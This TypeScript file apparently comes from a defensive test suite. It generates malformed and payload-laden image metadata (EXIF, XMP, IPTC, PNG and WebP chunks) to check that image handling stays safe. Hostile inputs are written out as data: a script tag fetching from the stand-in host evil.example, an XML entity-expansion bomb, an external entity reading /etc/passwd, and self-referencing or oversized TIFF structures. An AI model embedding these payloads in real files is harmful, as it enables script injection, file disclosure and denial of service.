import { type Honest, quadrants } from "../honest.ts";
import {
  canary,
  inFamily,
  type Quadrants,
  rendered,
  renderedOrBroken,
  type ToxicFile,
} from "../toxic-file.ts";
import { app1, app13, comment, exifSegment, jpegSegment, withSegments } from "../write/jpeg.ts";
import { pngChunk, withPngChunks } from "../write/png.ts";
import { ascii, long, short, type TiffField, tiffTypes, writeTiff } from "../write/tiff.ts";
import { extendedHeader, pixelChunk, riffChunk, webpFlags, writeWebp } from "../write/webp.ts";

const file = inFamily("metadata");
const whole = { truth: { quadrants, torn: false } };
const script = `<script>fetch("//evil.example/${canary}")</script>`;

/** Payloads where cameras write: each picture is honest, and nothing of the payload may be shown or break anything. */
export function metadata(honest: Honest): ToxicFile[] {
  return [...exif(honest), ...orientations(honest), ...texts(honest), ...otherFormats(honest)];
}

const place: TiffField = {
  tag: 0x8825,
  type: tiffTypes.long,
  directory: [
    ascii(1, `N`),
    { tag: 2, type: tiffTypes.rational, values: [45, 28, 1] },
    ascii(3, `E`),
    { tag: 4, type: tiffTypes.rational, values: [9, 11, 24] },
    ascii(0x1d, canary),
  ],
};
const camera = [ascii(0x010e, canary), ascii(0x010f, canary), ascii(0x0110, script)];

function exif({ jpeg }: Honest): ToxicFile[] {
  const one = (kind: string, tiff: Buffer) =>
    file(`jpeg with EXIF ${kind}`, withSegments(jpeg, [exifSegment(tiff)]), rendered, whole);
  const plain = writeTiff([[...camera, place]]);
  const big = (count: number, offset: number) =>
    writeTiff([
      [
        { tag: 0x010f, type: tiffTypes.ascii, count, offset },
        { tag: 0x8769, type: tiffTypes.long, count, offset },
      ],
    ]);
  return [
    one("that says where it was taken", plain),
    one(
      "of scripts",
      writeTiff([
        [ascii(0x010e, script), ascii(0x010f, script), ascii(0x0131, script), ascii(0x8298, script)],
      ]),
    ),
    one("whose directory follows itself", writeTiff([camera], { next: (_, offsets) => offsets[0]! })),
    one(
      "whose sub-directory is the directory itself",
      writeTiff([[...camera, long(0x8769, 8), long(0x8825, 8), long(0xa005, 8), long(0x014a, 8)]]),
    ),
    one("with a count of 4,294,967,295", big(0xffffffff, 8)),
    one("with an offset beyond the end", big(10, 0xfffffff0)),
    one("with an offset just before the end", big(1_000, plain.length - 1)),
    one(
      "with 65,535 fields announced",
      Buffer.concat([Buffer.from("II*\0\x08\0\0\0\xff\xff", "latin1"), Buffer.alloc(200, 0x01)]),
    ),
    one(
      "of types that do not exist",
      writeTiff([
        [
          { tag: 0x0112, type: 99, data: Buffer.from([6, 0, 0, 0]) },
          { tag: 0x010f, type: 0, data: Buffer.alloc(4) },
        ],
      ]),
    ),
    one(
      "with fractions of nothing",
      writeTiff([
        [
          {
            tag: 0x8825,
            type: tiffTypes.long,
            directory: [{ tag: 2, type: tiffTypes.rational, data: Buffer.alloc(24) }],
          },
        ],
      ]),
    ),
    one("cut off in its header", Buffer.from("II*\0", "latin1")),
    one("of no bytes", Buffer.alloc(0)),
    one("whose first directory is its header", Buffer.from("II*\0\0\0\0\0", "latin1")),
    one(
      "of 64 KB of maker's noise",
      writeTiff([[{ tag: 0x927c, type: tiffTypes.undefined, data: Buffer.alloc(60_000, 0xa5) }]]),
    ),
    one(
      "with a date of a megabyte announced",
      writeTiff([
        [
          {
            tag: 0x8769,
            type: tiffTypes.long,
            directory: [{ tag: 0x9003, type: tiffTypes.ascii, count: 1_000_000, offset: 0 }],
          },
        ],
      ]),
    ),
    one(
      "with a text of half a character",
      writeTiff([
        [
          {
            tag: 0x010f,
            type: tiffTypes.ascii,
            data: Buffer.from([0xed, 0xa0, 0x80, 0xff, 0xfe, 0, 0x41, 0]),
          },
        ],
      ]),
    ),
    file(
      "jpeg with 200 EXIF segments",
      withSegments(
        jpeg,
        Array.from({ length: 200 }, () => exifSegment(plain)),
      ),
      rendered,
      whole,
    ),
    file(
      "jpeg with another picture as its EXIF thumbnail",
      withSegments(jpeg, [exifSegment(thumbnailed(jpeg))]),
      rendered,
      whole,
    ),
  ];
}

/** A second directory with a picture in it, which viewers may show in place of the true one. */
function thumbnailed(jpeg: Buffer): Buffer {
  const picture = jpeg.subarray(0, 20_000);
  return writeTiff(
    [
      camera,
      [short(259, 6), { tag: 0x0201, type: tiffTypes.long, values: [8] }, long(0x0202, picture.length)],
    ],
    { pixels: picture },
  );
}

/** How the quadrants of an upright view come out of stored ones, by EXIF orientation. */
const turned: Record<number, readonly [number, number, number, number]> = {
  1: [0, 1, 2, 3],
  2: [1, 0, 3, 2],
  3: [3, 2, 1, 0],
  4: [2, 3, 0, 1],
  5: [0, 2, 1, 3],
  6: [2, 0, 3, 1],
  7: [3, 1, 2, 0],
  8: [1, 3, 0, 2],
};

function orientations({ jpeg }: Honest): ToxicFile[] {
  return [1, 2, 3, 4, 5, 6, 7, 8, 0, 9, 65_535].map((orientation) => {
    const order = turned[orientation] ?? turned[1]!;
    const seen = order.map((index) => quadrants[index]!) as unknown as Quadrants;
    const bytes = withSegments(jpeg, [exifSegment(writeTiff([[short(0x0112, orientation)]]))]);
    return file(`jpeg with orientation ${orientation}`, bytes, rendered, {
      truth: { quadrants: seen, torn: false },
    });
  });
}

const xmpText = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description dc:title="${canary}">${script}</rdf:Description></rdf:RDF></x:xmpmeta>`;
const xmpBomb = `<!DOCTYPE x [<!ENTITY a "${canary}">${Array.from({ length: 30 }, (_, index) => `<!ENTITY b${index} "${`&b${index - 1};`.repeat(10)}">`).join("")}]><x:xmpmeta>&b29;</x:xmpmeta>`;

function texts({ jpeg }: Honest): ToxicFile[] {
  const xmp = (text: string) => jpegSegment(app1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0${text}`));
  const photoshop = Buffer.from(
    `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20\x1c\x02\x78\0\x17${canary}`,
    "latin1",
  );
  const lying = Buffer.from("Photoshop 3.0\x008BIM\x04\x04\xff\xff\xff\xff\x7f\xff", "latin1");
  const one = (kind: string, segment: Buffer) =>
    file(`jpeg with ${kind}`, withSegments(jpeg, [segment]), rendered, whole);
  return [
    one("XMP of scripts", xmp(xmpText)),
    one("XMP that is an entity bomb", xmp(xmpBomb)),
    one("XMP of 64 KB", xmp(canary.repeat(3_000))),
    one("XMP that names an outside entity", xmp(`<!DOCTYPE x SYSTEM "file:///etc/passwd"><x>${canary}</x>`)),
    one("IPTC", jpegSegment(app13, photoshop)),
    one("IPTC that lies of its length", jpegSegment(app13, lying)),
    one("a comment of scripts", jpegSegment(comment, Buffer.from(script))),
    one("an APP15 of scripts", jpegSegment(0xef, Buffer.from(script))),
    one(
      "a JFIF thumbnail of 255 × 255 that is not there",
      jpegSegment(0xe0, Buffer.from("JFIF\0\x01\x01\0\0\x01\0\x01\xff\xff", "latin1")),
    ),
    one("an Adobe segment of another colour space", jpegSegment(0xe0, Buffer.from("JFXX\0\x10", "latin1"))),
  ];
}

function otherFormats({ png, webp, jpeg }: Honest): ToxicFile[] {
  const tiff = writeTiff([[...camera, place]]);
  const extended = (flags: number, ...chunks: Buffer[]) =>
    writeWebp([extendedHeader(flags, 480, 360), pixelChunk(webp), ...chunks]);
  const iTXt = (text: string) => pngChunk("iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${text}`));
  const pixels = Buffer.alloc(64 * 64);
  for (let at = 0; at < pixels.length; at += 1) pixels[at] = (at * 37) % 251;
  const placed = [
    long(256, 64),
    long(257, 64),
    short(258, 8),
    short(259, 1),
    short(262, 1),
    ...camera,
    long(273, 8),
    short(277, 1),
    long(278, 64),
    long(279, 4_096),
    { tag: 700, type: tiffTypes.byte, data: Buffer.from(xmpText) },
    { tag: 33_723, type: tiffTypes.undefined, data: Buffer.from(canary) },
    place,
  ].toSorted((a, b) => a.tag - b.tag);
  return [
    file("png with EXIF", withPngChunks(png, [pngChunk("eXIf", tiff)]), rendered, whole),
    file(
      "png with EXIF of noise",
      withPngChunks(png, [pngChunk("eXIf", Buffer.alloc(5_000, 0xee))]),
      rendered,
      whole,
    ),
    file("png with XMP of scripts", withPngChunks(png, [iTXt(xmpText)]), rendered, whole),
    file(
      "png with a raw profile as text",
      withPngChunks(png, [
        pngChunk(
          "tEXt",
          Buffer.from(`Raw profile type exif\0\nexif\n      20\n${Buffer.from(canary).toString("hex")}\n`),
        ),
      ]),
      rendered,
      whole,
    ),
    file(
      "webp with EXIF and XMP",
      extended(
        webpFlags.exif | webpFlags.xmp,
        riffChunk("EXIF", tiff),
        riffChunk("XMP ", Buffer.from(xmpText)),
      ),
      rendered,
      whole,
    ),
    file(
      "webp with EXIF that claims 2 GiB",
      extended(webpFlags.exif, riffChunk("EXIF", tiff, 0x7fffffff)),
      renderedOrBroken,
      whole,
    ),
    file("tiff with place, XMP and IPTC", writeTiff([placed], { pixels }), rendered),
    file(
      "jpeg that says 0 dots per inch",
      withSegments(jpeg, [jpegSegment(0xe0, Buffer.from("JFIF\0\x01\x02\x01\0\0\0\0\0\0", "latin1"))]),
      rendered,
      whole,
    ),
  ];
}
